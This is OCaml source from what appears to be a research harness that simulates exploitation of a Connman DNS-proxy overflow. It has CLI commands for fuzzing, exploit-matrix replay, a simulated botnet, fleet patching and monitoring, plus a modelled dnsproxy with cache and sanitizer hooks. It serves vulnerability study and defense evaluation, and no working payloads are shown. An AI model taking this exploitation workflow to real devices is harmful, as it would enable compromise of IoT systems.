    (Cmd.info "botnet" ~doc:"Recruit a mixed-firmware fleet over poisoned DNS.")
    Term.(const run $ seed_arg)

let metrics_cmd, cache_stats_cmd =
  let run seed queries names capacity shards cell schedule =
    (* Part 1: a synthetic workload on a standalone sharded cache —
       repeated lookups over a name population, filling on miss, with
       ~1 in 8 names known-absent (negatively cached). *)
    let c = Dns.Cache.create ~capacity ?shards () in
    let rng = Memsim.Rng.create seed in
    for q = 1 to queries do
      let now = q / 50 in
      let id = Memsim.Rng.int rng names in
      let name = Printf.sprintf "host-%05d.sim.example" id in
      match Dns.Cache.find c ~now name with
      | Dns.Cache.Hit ip when q mod 16 = 0 ->
          (* an unsolicited refresh: new TTL over the same entry *)
          Dns.Cache.insert c ~now ~name
            ~ttl:(30 + Memsim.Rng.int rng 270)
            ~ipv4:ip
      | Dns.Cache.Hit _ | Dns.Cache.Negative_hit -> ()
      | Dns.Cache.Miss ->
          if id mod 8 = 0 then Dns.Cache.insert_negative c ~now ~name ~ttl:30
          else
            Dns.Cache.insert c ~now ~name
              ~ttl:(30 + Memsim.Rng.int rng 270)
              ~ipv4:(0x0A000000 lor id)
    done;
    Format.printf
      "=== Sharded cache, synthetic workload (seed %d, %d queries over %d \
       names, capacity %d) ===@.@."
      seed queries names capacity;
    Format.printf "%5s %7s %9s %9s %9s %8s %8s %8s %8s@." "shard" "occ" "hits"
      "misses" "neg-hits" "ins" "repl" "evict" "swept";
    Array.iteri
      (fun i (s : Dns.Cache.stats) ->
        Format.printf "%5d %7d %9d %9d %9d %8d %8d %8d %8d@." i
          s.Dns.Cache.occupancy s.Dns.Cache.hits s.Dns.Cache.misses
          s.Dns.Cache.negative_hits s.Dns.Cache.insertions
          s.Dns.Cache.replacements s.Dns.Cache.evictions
          s.Dns.Cache.expired_sweeps)
      (Dns.Cache.shard_stats c);
    let s = Dns.Cache.stats c in
    Format.printf "%5s %7d %9d %9d %9d %8d %8d %8d %8d@." "total"
      s.Dns.Cache.occupancy s.Dns.Cache.hits s.Dns.Cache.misses
      s.Dns.Cache.negative_hits s.Dns.Cache.insertions
      s.Dns.Cache.replacements s.Dns.Cache.evictions s.Dns.Cache.expired_sweeps;
    (* Part 2: the same surface on a live connmand — benign responses
       populate the cache, an NXDOMAIN lands in the negative cache, and
       client lookups hit both. *)
    let d =
      Connman.Dnsproxy.create
        { Connman.Dnsproxy.default_config with Connman.Dnsproxy.boot_seed = seed }
    in
    let live = Dns.Name.of_string "ipv4.connman.net" in
    let query = Connman.Dnsproxy.make_query d live in
    let wire =
      Dns.Packet.encode
        (Dns.Packet.response ~query
           [ Dns.Packet.a_record live ~ttl:300 ~ipv4:0x5DB8D822 ])
    in
    ignore (Connman.Dnsproxy.handle_response d wire);
    let absent = Dns.Name.of_string "no-such-host.connman.net" in
    let nxq = Connman.Dnsproxy.make_query d absent in
    let nxwire =
      Dns.Packet.encode
        {
          Dns.Packet.header =
            {
              nxq.Dns.Packet.header with
              Dns.Packet.qr = true;
              Dns.Packet.ra = true;
              Dns.Packet.rcode = Dns.Packet.NXDomain;
            };
          questions = nxq.Dns.Packet.questions;
          answers = [];
          authorities = [];
          additionals = [];
        }
    in
    ignore (Connman.Dnsproxy.handle_response d nxwire);
    ignore (Connman.Dnsproxy.cache_lookup d live);
    ignore (Connman.Dnsproxy.cache_find d absent);
    ignore (Connman.Dnsproxy.cache_lookup d (Dns.Name.of_string "cold.example"));
    Format.printf "@.=== connmand dnsproxy cache ===@.@.%a@."
      Dns.Cache.pp_stats
      (Connman.Dnsproxy.cache_stats d);
    (* Part 3: everything above plus a whole instrumented chaos cell
       registered into one metrics registry, exposed Prometheus-style. *)
    let reg = Telemetry.Metrics.create () in
    Dns.Cache.register_metrics c reg ~prefix:"synthetic";
    match Core.Experiments.run_instrumented_cell ~seed ~schedule ~metrics:reg ~cell () with
    | Error e ->
        Format.eprintf "%s@." e;
        1
    | Ok (row, _) ->
        Format.printf "@.=== instrumented chaos cell ===@.@.";
        pp_cell_summary seed row;
        Format.printf "@.=== metrics (Prometheus text exposition) ===@.@.%s@."
          (Telemetry.Metrics.expose reg);
        0
  in
  let queries_arg =
    Arg.(value & opt int 50_000 & info [ "queries" ] ~doc:"Workload size.")
  in
  let names_arg =
    Arg.(value & opt int 4096 & info [ "names" ] ~doc:"Name population.")
  in
  let capacity_arg =
    Arg.(value & opt int 1024 & info [ "capacity" ] ~doc:"Cache capacity.")
  in
  let shards_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "shards" ] ~doc:"Shard count (default: derived from capacity).")
  in
  let term =
    Term.(
      const run $ seed_arg $ queries_arg $ names_arg $ capacity_arg
      $ shards_arg $ cell_arg $ schedule_arg)
  in
  let metrics =
    Cmd.v
      (Cmd.info "metrics"
         ~doc:
           "Dump DNS-cache statistics and expose the unified metrics registry \
            (caches, netsim packet fates, daemon, supervisor) in Prometheus \
            text format.")
      term
  in
  let deprecated =
    Cmd.v
      (Cmd.info "cache-stats"
         ~doc:
           "Deprecated alias of $(b,metrics) (kept for scripts; same output).")
      term
  in
  (metrics, deprecated)

let chaos_cmd =
  let run seed smoke shards output =
    let report = Core.Experiments.chaos_campaign ~seed ~smoke ~shards () in
    Format.printf "%a@." Core.Experiments.pp_chaos report;
    (match output with
    | None -> ()
    | Some path ->
        let oc = open_out path in
        output_string oc (Core.Experiments.chaos_json report);
        close_out oc;
        Format.printf "wrote %s@." path);
    0
  in
  let smoke_arg =
    Arg.(
      value & flag
      & info [ "smoke" ] ~doc:"Reduced grid (2 cells × 3 schedules) for CI.")
  in
  let output_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "out" ] ~doc:"Write the campaign report as JSON to a file.")
  in
  let shards_arg =
    Arg.(
      value & opt shards_conv 1
      & info [ "shards" ]
          ~doc:
            "Scheduler shard count for every cell's world (results are \
             bit-identical across counts).")
  in
  Cmd.v
    (Cmd.info "chaos"
       ~doc:
         "Replay the exploit matrix and the DoS under deterministic network \
          fault schedules, with connmand supervised.")
    Term.(const run $ seed_arg $ smoke_arg $ shards_arg $ output_arg)

let fuzz_cmd =
  let run seed smoke shards execs out check =
    let report = Core.Experiments.fuzz_campaign ~seed ~smoke ~shards ?execs () in
    Format.printf "%a@." Core.Experiments.pp_fuzz report;
    let json = Core.Experiments.fuzz_json report in
    (match out with
    | None -> ()
    | Some path ->
        let oc = open_out path in
        output_string oc json;
        close_out oc;
        Format.printf "wrote %s@." path);
    let json_ok =
      (not check)
      ||
      match Telemetry.Json.validate json with
      | Ok () ->
          Format.printf "fuzz json: well-formed@.";
          true
      | Error e ->
          Format.eprintf "fuzz json: INVALID (%s)@." e;
          false
    in
    if json_ok && report.Core.Experiments.fuzz_ok then 0 else 1
  in
  let smoke_arg =
    Arg.(
      value & flag
      & info [ "smoke" ]
          ~doc:"Reduced budget (4000 executions per ISA) for CI.")
  in
  let execs_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "execs" ] ~doc:"Explicit execution budget per ISA.")
  in
  let shards_arg =
    Arg.(
      value & opt shards_conv 1
      & info [ "shards" ]
          ~doc:
            "Independent engine instances per ISA, on derived seeds; the \
             campaign passes if every ISA rediscovers in at least one shard.")
  in
  let out_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "out" ] ~doc:"Write the campaign report as JSON to a file.")
  in
  let check_arg =
    Arg.(
      value & flag
      & info [ "check" ] ~doc:"Validate the exported JSON; exit 1 if malformed.")
  in
  Cmd.v
    (Cmd.info "fuzz"
       ~doc:
         "Coverage-guided snapshot fuzzing of the Connman parse path on both \
          ISAs: mutate benign DNS responses until the Listing-1 overflow is \
          rediscovered, triaged by the taint oracle with wire-byte \
          provenance (exit 1 if either ISA misses within budget).")
    Term.(
      const run $ seed_arg $ smoke_arg $ shards_arg $ execs_arg $ out_arg
      $ check_arg)

let diversity_cmd =
  let run seed variants arch profile smoke out check =
    let report () =
      Core.Experiments.diversity_matrix ~seed ~smoke ?variants ?arch
        ?base_profile:profile ()
    in
    match report () with
    | exception Invalid_argument e ->
        Format.eprintf "%s@." e;
        1
    | r ->
        Format.printf "%a@." Core.Experiments.pp_diversity r;
        let json = Core.Experiments.diversity_json r in
        (match out with
        | None -> ()
        | Some path ->
            let oc = open_out path in
            output_string oc json;
            close_out oc;
            Format.printf "wrote %s@." path);
        let json_ok =
          (not check)
          ||
          match Telemetry.Json.validate json with
          | Error e ->
              Format.eprintf "diversity json: INVALID (%s)@." e;
              false
          | Ok () ->
              (* Replay the whole matrix: determinism means byte-equal. *)
              if String.equal json (Core.Experiments.diversity_json (report ()))
              then begin
                Format.printf "diversity json: well-formed, byte-identical replay@.";
                true
              end
              else begin
                Format.eprintf "diversity json: replay NOT byte-identical@.";
                false
              end
        in
        if json_ok && r.Core.Experiments.div_ok then 0 else 1
  in
  let variants_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "variants" ]
          ~doc:"Forked variants per combination (default: 1000; 48 with --smoke).")
  in
  let arch_arg =
    Arg.(
      value
      & opt (some arch_conv) None
      & info [ "arch" ] ~doc:"Restrict to matrix cells of one architecture.")
  in
  let profile_arg =
    Arg.(
      value
      & opt (some profile_conv) None
      & info [ "profile" ] ~doc:"Restrict to matrix cells of one base profile.")
  in
  let smoke_arg =
    Arg.(
      value & flag
      & info [ "smoke" ] ~doc:"CI-sized run: 48 variants per combination.")
  in
  let out_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "out" ] ~doc:"Write the survival matrix as JSON to a file.")
  in
  let check_arg =
    Arg.(
      value & flag
      & info [ "check" ]
          ~doc:
            "Validate the exported JSON and replay the matrix to prove \
             byte-determinism; exit 1 on any mismatch.")
  in
  Cmd.v
    (Cmd.info "diversity"
       ~doc:
         "Run the software-diversity survival matrix: fork a population of \
          seeded layout variants per exploit-matrix cell (and the DoS), \
          replay the stock-image payload against base, diversified, \
          shadow-stack/forward-CFI, and combined defenses, and report \
          per-combination survival probabilities with Wilson intervals plus \
          gadget-survival statistics (exit 1 when a supposedly-mitigated \
          combination still lets the payload through, or when diversity \
          raises survival above the undiversified base).")
    Term.(
      const run $ seed_arg $ variants_arg $ arch_arg $ profile_arg $ smoke_arg
      $ out_arg $ check_arg)

let fleet_cmd =
  let run seed devices lans shards smoke out check =
    let base =
      if smoke then Fleet.Campaign.smoke_config
      else Fleet.Campaign.default_config
    in
    let value v default = match v with Some v -> v | None -> default in
    let cfg =
      {
        base with
        Fleet.Campaign.seed = value seed base.Fleet.Campaign.seed;
        devices = value devices base.Fleet.Campaign.devices;
        lans = value lans base.Fleet.Campaign.lans;
        shards = value shards base.Fleet.Campaign.shards;
      }
    in
    let report = Fleet.Campaign.run cfg in
    Format.printf "%a@." Fleet.Campaign.pp report;
    let json = Fleet.Campaign.json report in
    (match out with
    | None -> ()
    | Some path ->
        let oc = open_out path in
        output_string oc json;
        close_out oc;
        Format.printf "wrote %s@." path);
    let json_ok =
      (not check)
      ||
      match Telemetry.Json.validate json with
      | Ok () ->
          Format.printf "fleet json: well-formed@.";
          true
      | Error e ->
          Format.eprintf "fleet json: INVALID (%s)@." e;
          false
    in
    if json_ok && Fleet.Campaign.ok report then 0 else 1
  in
  let seed_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "seed" ] ~doc:"Deterministic run seed (default: the config's).")
  in
  let devices_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "devices" ] ~doc:"Fleet size (default: 1000; 48 with --smoke).")
  in
  let lans_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "lans" ] ~doc:"LAN count (default: 20; 4 with --smoke).")
  in
  let shards_arg =
    Arg.(
      value
      & opt (some shards_conv) None
      & info [ "shards" ]
          ~doc:"Scheduler shard count (default: 4; 2 with --smoke).")
  in
  let smoke_arg =
    Arg.(
      value & flag
      & info [ "smoke" ]
          ~doc:
            "CI-sized campaign: 48 devices, 4 LANs, 2 shards, canary + one \
             rollout wave.")
  in
  let out_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "out" ] ~doc:"Write the campaign report as JSON to a file.")
  in
  let check_arg =
    Arg.(
      value & flag
      & info [ "check" ] ~doc:"Validate the exported JSON; exit 1 if malformed.")
  in
  Cmd.v
    (Cmd.info "fleet"
       ~doc:
         "Fleet-scale resilience campaign: fork a device population from \
          copy-on-write snapshots over a sharded network world, mix benign \
          load with exploit and DoS forgery under chaos, supervise every \
          device (quarantine, probation, reintroduction), and roll out the \
          patch canary-first with automatic rollback (exit 1 unless the \
          fleet converges with zero residual compromises).")
    Term.(
      const run $ seed_arg $ devices_arg $ lans_arg $ shards_arg $ smoke_arg
      $ out_arg $ check_arg)

let monitor_cmd =
  let run seed devices lans shards smoke interval rules_file out check =
    let base =
      if smoke then Fleet.Campaign.smoke_config
      else Fleet.Campaign.default_config
    in
    let value v default = match v with Some v -> v | None -> default in
    let cfg =
      {
        base with
        Fleet.Campaign.seed = value seed base.Fleet.Campaign.seed;
        devices = value devices base.Fleet.Campaign.devices;
        lans = value lans base.Fleet.Campaign.lans;
        shards = value shards base.Fleet.Campaign.shards;
      }
    in
    let reg = Telemetry.Metrics.create () in
    let mon =
      match interval with
      | None -> Telemetry.Monitor.create reg
      | Some us -> Telemetry.Monitor.create ~interval_us:us reg
    in
    let rules_text =
      match rules_file with
      | None -> Fleet.Campaign.default_rules
      | Some path -> In_channel.with_open_bin path In_channel.input_all
    in
    match Telemetry.Monitor.add_rules mon rules_text with
    | Error e ->
        Format.eprintf "monitor rules: %s@." e;
        1
    | Ok nrules ->
        let report = Fleet.Campaign.run ~monitor:mon cfg in
        print_string (Telemetry.Monitor.dashboard mon);
        Format.printf "rules loaded: %d;  campaign: %s@." nrules
          (if Fleet.Campaign.ok report then "ok" else "NOT ok");
        let json = Telemetry.Monitor.json mon in
        (match out with
        | None -> ()
        | Some path ->
            let oc = open_out path in
            output_string oc json;
            close_out oc;
            Format.printf "wrote %s@." path);
        if not check then 0
        else begin
          let module M = Telemetry.Monitor in
          let json_ok =
            match Telemetry.Json.validate json with
            | Ok () ->
                Format.printf "monitor json: well-formed@.";
                true
            | Error e ->
                Format.eprintf "monitor json: INVALID (%s)@." e;
                false
          in
          let incidents = M.incidents mon in
          let resolved =
            List.exists (fun i -> i.M.i_resolved_us >= 0) incidents
          in
          if not resolved then
            Format.eprintf
              "monitor check: no incident both fired and resolved@.";
          let causal =
            List.exists
              (fun i ->
                match i.M.i_timeline with
                | [] -> false
                | first :: _ -> (
                    first.M.e_kind = "wire_provenance"
                    &&
                    match List.rev i.M.i_timeline with
                    | last :: _ ->
                        last.M.e_kind = "quarantine"
                        || last.M.e_kind = "rollback"
                    | [] -> false))
              incidents
          in
          if not causal then
            Format.eprintf
              "monitor check: no incident timeline runs wire provenance -> \
               containment@.";
          if json_ok && resolved && causal then begin
            Format.printf
              "monitor check: %d incident(s), causal timeline present@."
              (List.length incidents);
            0
          end
          else 1
        end
  in
  let seed_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "seed" ] ~doc:"Deterministic run seed (default: the config's).")
  in
  let devices_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "devices" ] ~doc:"Fleet size (default: 1000; 48 with --smoke).")
  in
  let lans_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "lans" ] ~doc:"LAN count (default: 20; 4 with --smoke).")
  in
  let shards_arg =
    Arg.(
      value
      & opt (some shards_conv) None
      & info [ "shards" ]
          ~doc:"Scheduler shard count (default: 4; 2 with --smoke).")
  in
  let smoke_arg =
    Arg.(
      value & flag
      & info [ "smoke" ]
          ~doc:"CI-sized campaign: 48 devices, 4 LANs, 2 shards.")
  in
  let interval_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "interval" ]
          ~doc:"Scrape interval in simulated microseconds (default 1000000).")
  in
  let rules_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "rules" ]
          ~doc:
            "Load recording/alert rules from a file (default: the built-in \
             fleet rule set).")
  in
  let out_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "out" ] ~doc:"Write the monitor-v1 flight record to a file.")
  in
  let check_arg =
    Arg.(
      value & flag
      & info [ "check" ]
          ~doc:
            "Validate the exported JSON and require at least one resolved \
             alert incident whose timeline starts at wire-byte provenance \
             and ends in quarantine or rollback; exit 1 otherwise.")
  in
  Cmd.v
    (Cmd.info "monitor"
       ~doc:
         "Run the fleet campaign under the deterministic flight recorder: \
          scrape every metric series on the simulated clock, evaluate \
          recording and alert rules (threshold, for-duration, hysteresis), \
          correlate firing alerts with the causal event journal into \
          per-incident timelines, and print a text dashboard.  Same seed, \
          same bytes — for any shard count.")
    Term.(
      const run $ seed_arg $ devices_arg $ lans_arg $ shards_arg $ smoke_arg
      $ interval_arg $ rules_arg $ out_arg $ check_arg)

let codec_diff_cmd =
  let run seed execs out =
    let report = Fuzz.Differential.run ~seed ~execs () in
    Format.printf "%a@." Fuzz.Differential.pp_report report;
    (match out with
    | None -> ()
    | Some path ->
        let oc = open_out path in
        output_string oc (Fuzz.Differential.report_json report);
        close_out oc;
        Format.printf "wrote %s@." path);
    if report.Fuzz.Differential.divergent = 0 then 0 else 1
  in
  let execs_arg =
    Arg.(
      value & opt int 50_000
      & info [ "execs" ] ~doc:"Mutation-execution budget.")
  in
  let out_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "out" ] ~doc:"Write the codec-diff report as JSON to a file.")
  in
  Cmd.v
    (Cmd.info "codec-diff"
       ~doc:
         "Differentially fuzz the zero-copy DNS codec against the legacy \
          reference: both must agree on decode results, error strings, and \
          re-encoded bytes over benign seeds, the committed crash corpus, \
          crafted hostiles, and a seeded mutation stream (exit 1 on any \
          divergence).")
    Term.(const run $ seed_arg $ execs_arg $ out_arg)

let report_cmd =
  let run seed output =
    let rows = Core.Experiments.all ~seed () in
    let buf = Buffer.create 4096 in
    let ppf = Format.formatter_of_buffer buf in
    Format.fprintf ppf
      "# Experiment report (seed %d)@.@.Generated by `connman-repro report`; \
       every row is deterministic for the seed.@.@." seed;
    Core.Experiments.pp_markdown ppf rows;
    let passed = List.length (List.filter (fun r -> r.Core.Experiments.ok) rows) in
    Format.fprintf ppf "@.%d/%d rows reproduce the paper.@." passed
      (List.length rows);
    Format.pp_print_flush ppf ();
    (match output with
    | None -> print_string (Buffer.contents buf)
    | Some path ->
        let oc = open_out path in
        output_string oc (Buffer.contents buf);
        close_out oc;
        Format.printf "wrote %s@." path);
    if passed = List.length rows then 0 else 1
  in
  let output_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "o"; "output" ] ~doc:"Write the markdown report to a file.")
  in
  Cmd.v
    (Cmd.info "report" ~doc:"Emit a markdown reproduction report.")
    Term.(const run $ seed_arg $ output_arg)

let default =
  Term.(ret (const (`Help (`Pager, None))))

let () =
  let info =
    Cmd.info "connman-repro" ~version:"1.0"
      ~doc:
        "Simulation-based reproduction of 'Exploiting Memory Corruption \
         Vulnerabilities in Connman for IoT Devices' (DSN 2019)."
  in
  exit
    (Cmd.eval'
       (Cmd.group ~default info
          [
            experiments_cmd;
            matrix_cmd;
            pineapple_cmd;
            gadgets_cmd;
            firmware_cmd;
            layout_cmd;
            disasm_cmd;
            trace_cmd;
            profile_cmd;
            sanitize_cmd;
            botnet_cmd;
            metrics_cmd;
            cache_stats_cmd;
            chaos_cmd;
            fuzz_cmd;
            diversity_cmd;
            fleet_cmd;
            monitor_cmd;
            codec_diff_cmd;
            report_cmd;
          ]))
