module Mem = Memsim.Memory
module O = Machine.Outcome

type disposition =
  | Cached of int
  | Dropped of string
  | Crashed of O.stop_reason
  | Compromised of O.stop_reason
  | Blocked of O.stop_reason

let pp_disposition ppf = function
  | Cached n -> Format.fprintf ppf "cached %d record(s)" n
  | Dropped why -> Format.fprintf ppf "dropped (%s)" why
  | Crashed r -> Format.fprintf ppf "CRASHED: %a" O.pp r
  | Compromised r -> Format.fprintf ppf "COMPROMISED: %a" O.pp r
  | Blocked r -> Format.fprintf ppf "blocked by defense: %a" O.pp r

type config = {
  version : Version.t;
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  boot_seed : int;
  diversity_seed : int option;
}

let default_config =
  {
    version = Version.v1_34;
    arch = Loader.Arch.X86;
    profile = Defense.Profile.wx;
    boot_seed = 1;
    diversity_seed = None;
  }

type t = {
  config : config;
  mutable proc : Loader.Process.t;
  mutable alive : bool;
  mutable restarts : int;
  mutable next_id : int;
  mutable steps : int;
  pending : (int, Dns.Packet.question) Hashtbl.t;
  view : Dns.Wire.view;  (* reusable zero-copy parse state (host side) *)
  cache : Dns.Cache.t;
  mutable clock : int;  (* logical seconds, advanced by [tick] *)
  mutable telemetry : Telemetry.Trace.t option;
  mutable profiler : Telemetry.Profile.t option;
  mutable sanitizer : Sanitizer.Oracle.t option;
  mutable icache_hits : int;  (* across parses and restarts *)
  mutable icache_misses : int;
}

let track = "connmand"

let trace_event t ?dur ?ts name args =
  match t.telemetry with
  | None -> ()
  | Some tr -> Telemetry.Trace.emit tr ?ts ?dur ~cat:"daemon" ~track name ~args

let build_spec config =
  match config.arch with
  | Loader.Arch.X86 ->
      Program_x86.spec ~version:config.version ~profile:config.profile
        ?diversity_seed:config.diversity_seed ()
  | Loader.Arch.Arm ->
      Program_arm.spec ~version:config.version ~profile:config.profile
        ?diversity_seed:config.diversity_seed ()

let boot config ~restarts =
  Loader.Process.boot (build_spec config) ~profile:config.profile
    ~seed:(config.boot_seed + (restarts * 7919))

(* SOA-minimum stand-in: how long an NXDOMAIN is believed. *)
let negative_ttl = 60

let create ?cache_capacity config =
  {
    config;
    proc = boot config ~restarts:0;
    alive = true;
    restarts = 0;
    next_id = 0x1000 + (config.boot_seed land 0xFFF);
    steps = 0;
    pending = Hashtbl.create 8;
    view = Dns.Wire.create_view ();
    cache = Dns.Cache.create ?capacity:cache_capacity ();
    clock = 0;
    telemetry = None;
    profiler = None;
    sanitizer = None;
    icache_hits = 0;
    icache_misses = 0;
  }

(* Fleet-scale spawning: a copy-on-write clone of the template's current
   machine state instead of a full [boot].  The clone shares the
   template's boot-time randomness — forked cohorts model devices
   flashed from one firmware image, not independent boots — so anything
   ASLR-sensitive must fork from per-diversity templates. *)
let fork ?cache_capacity template =
  let snap = Loader.Process.snapshot template.proc in
  {
    config = template.config;
    proc = Loader.Process.fork template.proc snap;
    alive = template.alive;
    restarts = 0;
    next_id = 0x1000 + (template.config.boot_seed land 0xFFF);
    steps = 0;
    pending = Hashtbl.create 8;
    view = Dns.Wire.create_view ();
    cache = Dns.Cache.create ?capacity:cache_capacity ();
    clock = 0;
    telemetry = None;
    profiler = None;
    sanitizer = None;
    icache_hits = 0;
    icache_misses = 0;
  }

(* Diversified spawning: fork copy-on-write from the template, then
   re-assemble the diversified variant into the already-mapped text
   region ([Loader.Process.reimage]) — no libc/PLT/stack rebuild, so a
   whole mixed-diversity cohort costs µs per device.  The clone keeps
   the template's boot-time randomness (same ASLR draw, same canary):
   only the code layout differs, which is exactly the variable the
   survival matrix isolates.  Falls back to a full boot when the
   variant's text outgrows the mapped region (deterministic per seed
   either way). *)
let fork_diversified ?cache_capacity template ~diversity_seed =
  let config =
    { template.config with diversity_seed = Some diversity_seed }
  in
  let snap = Loader.Process.snapshot template.proc in
  let forked = Loader.Process.fork template.proc snap in
  match Loader.Process.reimage forked (build_spec config) with
  | None -> create ?cache_capacity config
  | Some proc ->
      {
        config;
        proc;
        alive = template.alive;
        restarts = 0;
        next_id = 0x1000 + (config.boot_seed land 0xFFF);
        steps = 0;
        pending = Hashtbl.create 8;
        view = Dns.Wire.create_view ();
        cache = Dns.Cache.create ?capacity:cache_capacity ();
        clock = 0;
        telemetry = None;
        profiler = None;
        sanitizer = None;
        icache_hits = 0;
        icache_misses = 0;
      }

let config t = t.config
let peek_pending t id = Hashtbl.find_opt t.pending id
let process t = t.proc
let alive t = t.alive
let last_steps t = t.steps

(* Attaching mid-run means the boot-time [map] events predate the trace;
   re-emit the current region snapshot so the timeline starts with a
   complete memory picture. *)
let snapshot_regions t =
  match t.telemetry with
  | None -> ()
  | Some tr ->
      List.iter
        (fun (reg : Mem.region) ->
          Telemetry.Trace.emit tr ~cat:"mem" ~track:"memory" "region"
            ~args:
              [
                ("name", Telemetry.Trace.S reg.Mem.name);
                ("base", Telemetry.Trace.I reg.Mem.base);
                ("size", Telemetry.Trace.I reg.Mem.size);
                ("proc", Telemetry.Trace.S track);
              ])
        (Mem.regions t.proc.Loader.Process.mem)

let set_trace t tr =
  t.telemetry <- tr;
  Mem.set_trace t.proc.Loader.Process.mem tr;
  (match t.sanitizer with
  | Some oracle -> Sanitizer.Oracle.set_trace oracle tr
  | None -> ());
  snapshot_regions t

let set_profiler t p = t.profiler <- p

let set_sanitizer t oracle =
  t.sanitizer <- oracle;
  match oracle with
  | Some o -> Sanitizer.Oracle.set_trace o t.telemetry
  | None -> ()

let sanitizer t = t.sanitizer

let restart t =
  t.restarts <- t.restarts + 1;
  t.proc <- boot t.config ~restarts:t.restarts;
  t.alive <- true;
  Hashtbl.reset t.pending;
  (* The new process has a fresh address space: re-attach the sink and
     re-emit its layout. *)
  Mem.set_trace t.proc.Loader.Process.mem t.telemetry;
  trace_event t "restart" [ ("restarts", Telemetry.Trace.I t.restarts) ];
  snapshot_regions t

let make_query t qname =
  let id = t.next_id land 0xFFFF in
  t.next_id <- t.next_id + 1;
  let q = Dns.Packet.query ~id qname Dns.Packet.A in
  Hashtbl.replace t.pending id (List.hd q.Dns.Packet.questions);
  trace_event t "query"
    [
      ("qname", Telemetry.Trace.S (Dns.Name.to_string qname));
      ("id", Telemetry.Trace.I id);
    ];
  q

(* Host-side pre-validation, standing in for the header/flag checks
   dnsproxy.c performs before reaching get_name.  Reads only fixed-offset
   header fields and the (strictly parsed) question — never the answer's
   owner name, which is exactly the field the vulnerable path expands. *)
let prevalidate t wire =
  let len = String.length wire in
  if len < 12 then Error "short packet"
  else
    let u16 off = (Char.code wire.[off] lsl 8) lor Char.code wire.[off + 1] in
    let id = u16 0 in
    let flags = u16 2 in
    if (flags lsr 15) land 1 <> 1 then Error "not a response"
    else if flags land 0xF <> 0 then Error "error rcode"
    else if u16 4 <> 1 then Error "qdcount != 1"
    else if u16 6 < 1 then Error "no answers"
    else
      match Hashtbl.find_opt t.pending id with
      | None -> Error "unknown transaction id"
      | Some pending -> (
          (* Zero-copy: compare the wire question against the pending
             one in place instead of materializing a label list. *)
          match
            Dns.Wire.name_equal_consumed wire 12 pending.Dns.Packet.qname
          with
          | Error e -> Error ("bad question: " ^ e)
          | Ok (equal, used) ->
              if not equal then Error "question mismatch"
              else if 12 + used + 4 > len then Error "truncated question"
              else begin
                Hashtbl.remove t.pending id;
                Ok id
              end)

(* Update the host-visible cache on a successful parse: validate with
   the reusable zero-copy view and record A answers with their TTLs
   straight off the wire — the only materialization is the dotted owner
   name the cache is keyed by.  (The machine-level cache_store keeps the
   guest .bss in sync with a prefix copy.) *)
let update_cache t wire =
  match Dns.Wire.parse t.view wire with
  | Error _ -> 0
  | Ok () ->
      let n = ref 0 in
      (* Answers occupy rr indices [0, ancount). *)
      for i = 0 to Dns.Wire.ancount t.view - 1 do
        if
          Dns.Wire.rr_rtype t.view i = Dns.Packet.qtype_code Dns.Packet.A
          && Dns.Wire.rr_rdlen t.view i = 4
        then begin
          let ip = Dns.Wire.get_u32 wire (Dns.Wire.rr_rdata t.view i) in
          Dns.Cache.insert t.cache ~now:t.clock
            ~name:(Dns.Wire.name_to_string wire (Dns.Wire.rr_name t.view i))
            ~ttl:(Dns.Wire.rr_ttl t.view i) ~ipv4:ip;
          incr n
        end
      done;
      !n

let rx_buffer_addr proc =
  proc.Loader.Process.layout.Loader.Layout.heap_base

(* An NXDOMAIN answering a pending question is terminal for that lookup:
   record it as a negative cache entry (so repeated queries for a name
   known to be absent are absorbed host-side) and drop the datagram
   before it ever reaches the vulnerable machine-code parse. *)
let nxdomain_negative t wire =
  let len = String.length wire in
  if len < 12 then false
  else
    let u16 off = (Char.code wire.[off] lsl 8) lor Char.code wire.[off + 1] in
    let flags = u16 2 in
    if (flags lsr 15) land 1 <> 1 || flags land 0xF <> 3 || u16 4 <> 1 then
      false
    else
      match Hashtbl.find_opt t.pending (u16 0) with
      | None -> false
      | Some pending -> (
          match
            Dns.Wire.name_equal_consumed wire 12 pending.Dns.Packet.qname
          with
          | Ok (true, _) ->
              Hashtbl.remove t.pending (u16 0);
              Dns.Cache.insert_negative t.cache ~now:t.clock
                ~name:(Dns.Name.to_string pending.Dns.Packet.qname)
                ~ttl:negative_ttl;
              true
          | _ -> false)

let disposition_event t = function
  | Cached n -> trace_event t "cached" [ ("records", Telemetry.Trace.I n) ]
  | Dropped why -> trace_event t "drop" [ ("reason", Telemetry.Trace.S why) ]
  | Crashed r ->
      trace_event t "crashed" [ ("reason", Telemetry.Trace.S (O.to_string r)) ]
  | Compromised r ->
      trace_event t "compromised"
        [ ("reason", Telemetry.Trace.S (O.to_string r)) ]
  | Blocked r ->
      trace_event t "blocked" [ ("reason", Telemetry.Trace.S (O.to_string r)) ]

(* The protocol boundary is where taint enters: every byte of the UDP
   response lands in the guest rx buffer carrying a provenance label
   (source id + wire offset), and the overflow frame's return slot and
   redzone are registered from the {!Frame} geometry — this is all the
   sanitizer needs to chain a later detection back to the exact wire
   byte.  [origin] names where the datagram came from (the netsim source
   address when delivered through {!Core.Device}). *)
let arm_sanitizer t ~origin proc buf wire =
  match t.sanitizer with
  | None -> ()
  | Some oracle ->
      Sanitizer.Oracle.begin_parse oracle;
      let src =
        Sanitizer.Oracle.new_source oracle ~origin
          ~length:(String.length wire)
      in
      Sanitizer.Oracle.taint oracle ~src buf ~len:(String.length wire);
      Sanitizer.Oracle.protect_frame oracle
        ~buffer:(Frame.buffer_addr proc)
